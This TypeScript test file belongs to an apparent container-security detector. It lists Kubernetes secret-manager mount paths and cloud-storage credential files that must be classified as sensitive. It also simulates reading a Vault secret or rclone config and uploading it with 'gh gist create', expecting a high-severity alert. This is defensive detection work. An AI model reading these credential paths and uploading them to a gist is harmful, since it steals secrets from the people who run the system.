/**
 * Credentials the sensitive list lacked (found by the evasion hunt, 2026-12-01): secrets that Kubernetes secret
 * managers render into a pod by default (Vault Agent Injector's `/vault/secrets/`, the Secrets Store CSI
 * driver's `/mnt/secrets-store/`) and the logins of object-storage and cloud tools. Read, then put in a gist
 * or pushed to a repository, each left the push `low`.
 */
import { describe, expect, it } from 'vitest';
import { createPathClassifier, PATH_READ, PATH_SENSITIVE } from '../../../src/correlate/paths.js';
import { brief, run, Scenario } from './builder.js';

const classify = createPathClassifier();

describe('secret-manager mounts and storage logins', () => {
  it('are sensitive', () => {
    for (const path of [
      '/vault/secrets/database',
      '/vault/secrets/config.json',
      '/mnt/secrets-store/db-password',
      '/mnt/secrets-store/tls.key',
      '/proc/self/root/vault/secrets/database',
      '/home/app/.config/rclone/rclone.conf',
      '/root/.s3cfg',
      '/home/app/.mc/config.json',
      '/root/.boto',
      '/home/jovyan/.databrickscfg',
      '/home/jovyan/.kaggle/kaggle.json',
      '/root/.config/doctl/config.yaml',
      '/home/app/.oci/config',
      '/root/.config/tea/config.yml',
    ])
      expect([path, classify(path)]).toEqual([path, PATH_SENSITIVE]);
  });

  it('their public neighbours and look-alikes are not', () => {
    for (const path of [
      '/vault/secrets/ca.crt',
      '/mnt/secrets-store/namespace',
      '/vault/config/agent.hcl',
      '/mnt/data/secrets-store/x.csv',
      '/mnt/exports/db.csv',
      '/srv/vault/secrets.md',
      '/home/app/.config/rclone/README',
      '/home/app/.config/hubble/config.yaml',
      '/builds/acme/app/docs/s3cfg.md',
    ])
      expect([path, classify(path)]).toEqual([path, PATH_READ]);
  });

  it("Vault's volumes are sensitive where kubelet keeps them too (a hostPath pod's view of the node)", () => {
    const pod = '/host/var/lib/kubelet/pods/5d1c9e2a-0b7f-4e61-9a3d-2f8c7b6e4a10/volumes/kubernetes.io~empty-dir';
    expect(classify(`${pod}/vault-secrets/database`)).toBe(PATH_SENSITIVE);
    // A secret moved by `vault.hashicorp.com/secret-volume-path-NAME` gets a volume of its own.
    expect(classify(`${pod}/vault-secrets-custom-0/database`)).toBe(PATH_SENSITIVE);
    expect(classify(`${pod}/vault-secrets-cache/x.json`)).toBe(PATH_READ);
    expect(classify(`${pod}/scratch/vault-secrets/x.json`)).toBe(PATH_READ);
    expect(classify(`${pod}/vault-secrets/ca.crt`)).toBe(PATH_READ);
  });

  it("rclone's config is sensitive wherever RCLONE_CONFIG or XDG_CONFIG_HOME puts it", () => {
    // rclone's own image sets XDG_CONFIG_HOME=/config; `~/.rclone.conf` is its old default.
    for (const path of ['/config/rclone/rclone.conf', '/etc/rclone/rclone.conf', '/root/.rclone.conf'])
      expect([path, classify(path)]).toEqual([path, PATH_SENSITIVE]);
    for (const path of ['/srv/app/rclone.conf.example', '/srv/docs/rclone.md', '/config/rclone/README'])
      expect([path, classify(path)]).toEqual([path, PATH_READ]);
  });

  it('a basename glob in notSensitivePaths does not declassify a secret-manager mount', () => {
    const declassifying = createPathClassifier({ notSensitivePaths: ['database', '/vault/secrets/feature-flags'] });
    expect(declassifying('/vault/secrets/database')).toBe(PATH_SENSITIVE);
    expect(declassifying('/vault/secrets/feature-flags')).toBe(PATH_READ);
  });

  for (const source of ['tetragon', 'falco'] as const) {
    it(`a Vault-injected secret read, then put in a gist, is high (${source})`, () => {
      const s = new Scenario({ source });
      const c = s.container({ namespace: 'shop', pod: 'orders-api-x', name: 'api' });
      const sh = s.init(c);
      s.read(sh, '/vault/secrets/database', 512).wait(2_000);
      const gh = s.exec(c, '/usr/local/bin/gh', 'gist create /tmp/d', { parent: sh });
      s.read(gh, '/tmp/d', 512).wait(200).exit(gh);
      expect(brief(run(s.events).alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', destination: 'api.github.com' },
      ]);
    });

    it(`rclone's config copied, then put in a gist, is high (${source})`, () => {
      const s = new Scenario({ source });
      const c = s.container({ namespace: 'data', pod: 'backup-x', name: 'backup' });
      const sh = s.init(c);
      const cp = s.exec(c, '/bin/cp', '/home/app/.config/rclone/rclone.conf /tmp/r', { parent: sh });
      s.read(cp, '/home/app/.config/rclone/rclone.conf', 700).wait(50).exit(cp).wait(2_000);
      const gh = s.exec(c, '/usr/local/bin/gh', 'gist create /tmp/r', { parent: sh });
      s.read(gh, '/tmp/r', 700).wait(200).exit(gh);
      expect(brief(run(s.events).alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', destination: 'api.github.com' },
      ]);
    });
  }
});
